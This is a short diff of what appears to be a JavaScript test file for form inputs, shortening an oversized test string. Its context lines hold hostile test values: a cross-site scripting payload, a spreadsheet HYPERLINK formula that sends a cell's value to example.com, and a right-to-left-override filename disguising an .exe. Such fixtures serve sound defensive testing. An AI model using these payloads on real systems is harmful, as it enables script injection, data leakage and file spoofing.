@@ -35,7 +35,7 @@ const script = `"><img src=x onerror=alert(1)><script>alert(2)</script>`;
 const formula = `=HYPERLINK("http://example.com?"&A1)`;
 const hebrew = "שלום בע״מ";
 const turned = "user\u202egpj.exe";
-const long = "x".repeat(70_000);
+const long = "x".repeat(5_000);
 
 /** The texts of each form, and what else it must have before the server is asked. */
 const forms = {
